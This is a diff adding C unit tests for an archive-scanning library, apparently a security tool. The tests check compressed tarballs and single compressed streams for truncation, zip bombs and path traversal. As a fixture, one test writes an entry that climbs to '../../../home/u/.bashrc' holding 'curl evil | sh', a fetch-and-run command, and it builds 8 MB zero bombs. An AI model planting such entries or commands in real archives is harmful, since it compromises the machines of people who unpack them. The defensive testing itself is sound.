@@ -874,6 +874,127 @@ TEST(path_limits)
     buf_free(&b);
 }
 
+/* Every compression a served tar may use (.tar.bz2, .tar.xz, .tar.Z,
+ * .tar.zst, .tar.lz, .tar.lzma, .tar.lz4): read with the same walk and
+ * limits, hostile entries reported, a cut stream malformed. */
+TEST(compressed_tars)
+{
+    static const struct {
+        int kind;
+        const char *name;
+    } kinds[] = {{TAR_BZ2, "bzip2"}, {TAR_XZ, "xz"},     {TAR_Z, "compress"}, {TAR_ZST, "zstd"},
+                 {TAR_LZ, "lzip"},   {TAR_LZMA, "lzma"}, {TAR_LZ4, "lz4"}};
+    for (size_t k = 0; k < sizeof(kinds) / sizeof(kinds[0]); k++) {
+        test_current = kinds[k].name;
+        buf_t b;
+        buf_init(&b);
+        struct archive *a = w_new(kinds[k].kind, &b, NULL);
+        w_file(a, "demo-1.0/PKG-INFO", "Name: demo\nVersion: 1.0\n");
+        w_file(a, "demo-1.0/setup.py", "print('hi')\n");
+        w_close(a);
+        archive_report_t r;
+        got_t g;
+        got_init(&g, 100, "demo-1.0/PKG-INFO");
+        walk_mem(&b, NULL, &g, &r);
+        if (r.malformed)
+            fprintf(stderr, "%s: %s\n", kinds[k].name, r.malformed_why);
+        CHECK_INT_EQ(r.malformed, 0);
+        CHECK_INT_EQ(r.unsafe, 0);
+        CHECK_INT_EQ(r.entries, 2);
+        CHECK_STR_EQ(s_of(&g.content), "demo-1.0/PKG-INFO=Name: demo\nVersion: 1.0\n\n");
+        got_free(&g);
+        same_both_ways(&b, NULL, kinds[k].name);
+
+        /* cut short: the stream ends early, and the reason names the compression */
+        CHECK_INT_EQ(archive_walk_memory(b.data, b.len * 2 / 3, NULL, NULL, NULL, NULL, &r), 0);
+        if (!r.malformed)
+            fprintf(stderr, "%s: a stream cut to 2/3 was read to its end\n", kinds[k].name);
+        CHECK_INT_EQ(r.malformed, 1);
+        if (kinds[k].kind == TAR_XZ || kinds[k].kind == TAR_BZ2 || kinds[k].kind == TAR_ZST)
+            CHECK_CONTAINS(r.malformed_why, "truncated or corrupt");
+
+        /* hostile content: the walk reports it */
+        buf_reset(&b);
+        a = w_new(kinds[k].kind, &b, NULL);
+        w_file(a, "demo-1.0/PKG-INFO", "Name: demo\n");
+        w_file(a, "demo-1.0/../../../home/u/.bashrc", "curl evil | sh\n");
+        w_close(a);
+        CHECK_INT_EQ(archive_walk_memory(b.data, b.len, NULL, NULL, NULL, NULL, &r), 0);
+        CHECK_INT_EQ(r.malformed, 0);
+        CHECK_INT_EQ(r.unsafe, 1);
+        CHECK_CONTAINS(r.unsafe_why, "climbs out of the archive");
+
+        /* a bomb: the ratio limit holds whatever the compression */
+        buf_reset(&b);
+        a = w_new(kinds[k].kind, &b, NULL);
+        w_zeros(a, "demo-1.0/zeros", 8 * MB);
+        w_close(a);
+        archive_limits_t l;
+        archive_limits_default(&l);
+        CHECK_INT_EQ(archive_walk_memory(b.data, b.len, &l, NULL, NULL, NULL, &r), 0);
+        CHECK_INT_EQ(r.malformed, 1);
+        if (!r.malformed)
+            fprintf(stderr, "%s: 8 MB of zeros in %zu bytes passed\n", kinds[k].name, b.len);
+        CHECK_CONTAINS(r.malformed_why, "zip bomb");
+        buf_free(&b);
+    }
+    test_current = "compressed_tars";
+}
+
+/* One compressed file, no archive inside (a Maven .gz, .xz): read as a
+ * stream — decompressed to its end, counted against the limits, its check
+ * verified — and refused when it is not compressed at all or is cut. */
+TEST(compressed_stream)
+{
+    static const int kinds[] = {RAW_GZ, RAW_XZ};
+    for (size_t k = 0; k < 2; k++) {
+        buf_t b;
+        buf_init(&b);
+        struct archive *a = w_new(kinds[k], &b, NULL);
+        w_file(a, "data", "{\"some\": \"json, gzipped\"}\n");
+        w_close(a);
+        archive_report_t r;
+        got_t g;
+        got_init(&g, 100, NULL);
+        CHECK_INT_EQ(archive_walk_memory_as(b.data, b.len, ARCHIVE_COMPRESSED, NULL, on_want, on_content, &g, &r), 0);
+        CHECK_INT_EQ(r.malformed, 0);
+        CHECK_INT_EQ(r.entries, 1);
+        CHECK_INT_EQ(r.total, (long)strlen("{\"some\": \"json, gzipped\"}\n"));
+        got_free(&g);
+        /* as an archive it is not one */
+        CHECK_INT_EQ(archive_walk_memory(b.data, b.len, NULL, NULL, NULL, NULL, &r), 0);
+        CHECK_INT_EQ(r.malformed, 1);
+        /* cut */
+        CHECK_INT_EQ(archive_walk_memory_as(b.data, b.len - 5, ARCHIVE_COMPRESSED, NULL, NULL, NULL, NULL, &r), 0);
+        CHECK_INT_EQ(r.malformed, 1);
+        /* a bomb */
+        buf_reset(&b);
+        a = w_new(kinds[k], &b, NULL);
+        w_zeros(a, "data", 8 * MB);
+        w_close(a);
+        CHECK_INT_EQ(archive_walk_memory_as(b.data, b.len, ARCHIVE_COMPRESSED, NULL, NULL, NULL, NULL, &r), 0);
+        CHECK_INT_EQ(r.malformed, 1);
+        CHECK_CONTAINS(r.malformed_why, "zip bomb");
+        char path[128];
+        save("bomb.gz", b.data, b.len, path, sizeof(path));
+        CHECK_INT_EQ(archive_walk_file_as(path, ARCHIVE_COMPRESSED, NULL, NULL, NULL, NULL, &r), 0);
+        CHECK_INT_EQ(r.malformed, 1);
+        unlink(path);
+        buf_free(&b);
+    }
+    /* plain bytes are not a compressed file, even when they start like one */
+    const char *texts[] = {"not compressed at all, just some text of a decent length\n",
+                           "BZh but no bzip2 stream follows, only some text of a decent length\n"};
+    archive_report_t r;
+    for (int i = 0; i < 2; i++) {
+        CHECK_INT_EQ(archive_walk_memory_as(texts[i], strlen(texts[i]), ARCHIVE_COMPRESSED, NULL, NULL, NULL, NULL, &r),
+                     0);
+        CHECK_INT_EQ(r.malformed, 1);
+        if (i == 0)
+            CHECK_CONTAINS(r.malformed_why, "not compressed");
+    }
+}
+
 int main(void)
 {
     snprintf(g_dir, sizeof(g_dir), "/tmp/cordon-test-archive-XXXXXX");
@@ -897,6 +1018,8 @@ int main(void)
     RUN(too_many_entries);
     RUN(broken_input);
     RUN(path_limits);
+    RUN(compressed_tars);
+    RUN(compressed_stream);
     printf("all tests: %.0f ms\n", now_ms() - t0);
     rmdir(g_dir);
     return test_report();
